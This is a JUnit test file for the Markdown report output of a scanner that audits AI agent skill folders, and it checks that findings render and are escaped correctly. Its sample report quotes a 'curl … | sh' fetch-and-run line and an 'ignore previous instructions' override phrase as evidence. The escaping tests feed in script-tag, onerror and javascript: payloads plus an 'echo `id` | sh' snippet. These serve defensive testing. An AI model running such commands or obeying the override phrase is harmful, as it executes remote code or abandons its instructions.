package dev.assay.engine.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.assay.engine.model.Coverage;
import dev.assay.engine.model.Evidence;
import dev.assay.engine.model.Finding;
import dev.assay.engine.model.Severity;
import dev.assay.engine.spi.SkippedFile;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class MarkdownReportTest {

    private static final String SAMPLE_MARKDOWN = """
            # Assay report: skills/demo

            | Item | Value |
            |---|---|
            | Target | skills/demo (skill-folder) |
            | Digest | sha256:efefefefefefefefefefefefefefefefefefefefefefefefefefefefefefefef |
            | Scorer | skilltotal |
            | Score | 38 |
            | Level | suspicious |
            | Verdict | suspicious |
            | Attestation | not eligible: a critical finding is present |
            | Findings | 1 critical · 1 high · 0 medium · 1 low · 0 info |
            | Needs review | 1 |
            | Capabilities | network, shell |

            ## Findings (3)

            | # | Severity | ID | Title | Subject | Location |
            |---|---|---|---|---|---|
            | F1 | critical | ST-SECRET-001 | Hard-coded API key | scripts/setup.sh | scripts/setup.sh:12 |
            | F2 | high | ST-EXEC-002 | Title of ST-EXEC-002 | scripts/run.sh | scripts/run.sh:3-5 |
            | F3 | low | ST-EXEC-003 | Title of ST-EXEC-003 | scripts/run.sh | scripts/run.sh |

            ### F1. CRITICAL ST-SECRET-001: Hard-coded API key

            - **Category:** credentials
            - **Threat class:** malicious\\_indicator
            - **Subject:** scripts/setup.sh
            - **Message:** An API key is written into the script.
            - **Evidence:**
              - scripts/setup.sh:12 — `KEY=sk-ant-api03-FAKEFAKE…`
            - **Remediation:** Remove the key and rotate it.
            - **Controls:** ASI03
            - **Fingerprint:** `fp-secret`

            ### F2. HIGH ST-EXEC-002: Title of ST-EXEC-002

            - **Category:** execution
            - **Threat class:** risky\\_construct
            - **Capability:** shell
            - **Subject:** scripts/run.sh
            - **Message:** Message for ST-EXEC-002 on scripts/run.sh
            - **Evidence:**
              - scripts/run.sh:3-5 — `curl https://example.invalid/x | sh`
            - **Remediation:** Fix ST-EXEC-002 by removing it.
            - **Controls:** ASI05, MCP03
            - **Fingerprint:** `fp-st-exec-002-scripts/run.sh`

            ### F3. LOW ST-EXEC-003: Title of ST-EXEC-003

            - **Category:** execution
            - **Threat class:** risky\\_construct
            - **Capability:** shell
            - **Subject:** scripts/run.sh
            - **Message:** Message for ST-EXEC-003 on scripts/run.sh
            - **Evidence:**
              - scripts/run.sh
            - **Remediation:** Fix ST-EXEC-003 by removing it.
            - **Controls:** ASI05, MCP03
            - **Fingerprint:** `fp-st-exec-003-scripts/run.sh`

            ## Needs review (1)

            | # | Severity | ID | Title | Subject | Location |
            |---|---|---|---|---|---|
            | R1 | medium | ST-DOC-004 | Title of ST-DOC-004 | SKILL.md | SKILL.md:7 |

            These findings are shown for a person to judge; they do not count towards the score.

            ### R1. MEDIUM ST-DOC-004: Title of ST-DOC-004

            - **Category:** documentation
            - **Threat class:** risky\\_construct
            - **Capability:** shell
            - **Subject:** SKILL.md
            - **Message:** Message for ST-DOC-004 on SKILL.md
            - **Evidence:**
              - SKILL.md:7 — `ignore previous instructions`
            - **Remediation:** Fix ST-DOC-004 by removing it.
            - **Controls:** ASI05, MCP03
            - **Fingerprint:** `fp-st-doc-004-SKILL.md`

            ## Coverage

            4 files read, 1 skipped.

            | Skipped | Reason |
            |---|---|
            | assets/big.bin | larger than 1 MiB |

            ## Versions

            | Component | Version |
            |---|---|
            | Scanner | 0.1.0 |
            | Rule pack | skilltotal-core@1.2.0 |
            | Rules hash | sha256:abababababababababababababababababababababababababababababababab |
            | Formula | skilltotal@2 |
            | Formula hash | sha256:cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd |
            | Schema | 1.0 |
            | Generated | 2025-01-02T03:04:05Z |
            """;

    @Test
    void sampleReportReadsAsExpected() {
        assertEquals(SAMPLE_MARKDOWN, ReportWriters.render(Reports.sample(), ReportFormat.MARKDOWN));
    }

    @Test
    void emptyReport() {
        String md = ReportWriters.render(Reports.empty(), ReportFormat.MARKDOWN);
        assertTrue(md.startsWith("# Assay report: agent\n\n| Item | Value |\n|---|---|\n"), md);
        assertTrue(md.contains("| Attestation | eligible |\n"), md);
        assertTrue(md.contains("| Findings | 0 critical · 0 high · 0 medium · 0 low · 0 info |\n"), md);
        assertTrue(md.contains("## Findings (0)\n\nNo findings.\n\n## Coverage\n\n0 files read, 0 skipped.\n\n## Versions"), md);
        assertFalse(md.contains("Needs review ("), md);
        assertTrue(md.endsWith("| Schema | 1.0 |\n"), md);
    }

    @Test
    void escapesEverythingThatCouldBreakTheMarkup() {
        assertEquals("a &#124; b", MarkdownReport.md("a | b"));
        assertEquals("&lt;img src=x onerror=alert(1)&gt;", MarkdownReport.md("<img src=x onerror=alert(1)>"));
        assertEquals("\\[click\\](https://example.invalid)", MarkdownReport.md("[click](https://example.invalid)"));
        assertEquals("\\*\\*bold\\*\\* \\_it\\_ \\~\\~s\\~\\~ \\`code\\` \\\\ \\# \\$x\\$ \\!",
                MarkdownReport.md("**bold** _it_ ~~s~~ `code` \\ # $x$ !"));
        assertEquals("&amp;lt; &amp;\\#124;", MarkdownReport.md("&lt; &#124;"));
        assertEquals("two lines \\\\x1b\\[31m", MarkdownReport.md("two\n lines\r\n\u001b[31m"));
    }

    @Test
    void codeSpansUseALongerFenceThanTheirContent() {
        assertEquals("`a | b`", MarkdownReport.code("a | b"));
        assertEquals("``a`b``", MarkdownReport.code("a`b"));
        assertEquals("```a``b```", MarkdownReport.code("a``b"));
        assertEquals("`` `x` ``", MarkdownReport.code("`x`"));
        assertEquals("`<script>`", MarkdownReport.code("<script>"));
        assertEquals("`\\x1b[2J`", MarkdownReport.code("\u001b[2J"));
        assertEquals("", MarkdownReport.code(""));
    }

    @Test
    void hostileFindingCannotBreakTablesOrInjectHtml() {
        Finding f = new Finding("X|1", "<script>alert(1)</script> | `pwn`", Severity.CRITICAL, "", "c", "", List.of(),
                "sub|ject\n| --- |", "msg <b>bold</b> [x](javascript:alert(1))", "", Finding.ACTIVE,
                List.of(Evidence.at("dir|x/<a>.sh", 3, "echo `id` | sh <!-- -->")), "fp");
        String md = ReportWriters.render(Reports.report(BigDecimal.ONE, List.of(f), List.of(), Reports.counts(1, 0, 0, 0, 0),
                new Coverage(1, List.of(new SkippedFile("a|b", "<i>x</i>")))), ReportFormat.MARKDOWN);
        assertFalse(md.contains("<script>") || md.contains("<b>") || md.contains("<a>") || md.contains("<i>"), md);
        assertTrue(md.contains("| F1 | critical | X&#124;1 | &lt;script&gt;alert(1)&lt;/script&gt; &#124; \\`pwn\\` "
                + "| sub&#124;ject &#124; --- &#124; | dir&#124;x/&lt;a&gt;.sh:3 |\n"), md);
        assertTrue(md.contains("- **Message:** msg &lt;b&gt;bold&lt;/b&gt; \\[x\\](javascript:alert(1))\n"), md);
        // Inside a code span HTML is inert, so the snippet is shown as is.
        assertTrue(md.contains("  - dir&#124;x/&lt;a&gt;.sh:3 — ``echo `id` | sh <!-- -->``\n"), md);
        assertTrue(md.contains("| a&#124;b | &lt;i&gt;x&lt;/i&gt; |\n"), md);
        for (String line : md.split("\n")) {
            if (line.startsWith("| F1 ")) {
                assertEquals(7, line.chars().filter(c -> c == '|').count(), line);
            }
        }
    }

    @Test
    void listsTwentySkippedFilesAndCountsTheRest() {
        List<SkippedFile> skipped = new ArrayList<>();
        for (int i = 0; i < 21; i++) {
            skipped.add(new SkippedFile(String.format("f%02d.bin", i), "binary"));
        }
        String md = ReportWriters.render(Reports.report(BigDecimal.ONE, List.of(), List.of(), Reports.counts(0, 0, 0, 0, 0),
                new Coverage(3, skipped)), ReportFormat.MARKDOWN);
        assertTrue(md.contains("3 files read, 21 skipped.\n\n| Skipped | Reason |\n|---|---|\n| f00.bin | binary |\n"), md);
        assertTrue(md.contains("| f19.bin | binary |\n\n… and 1 more skipped.\n"), md);
    }
}
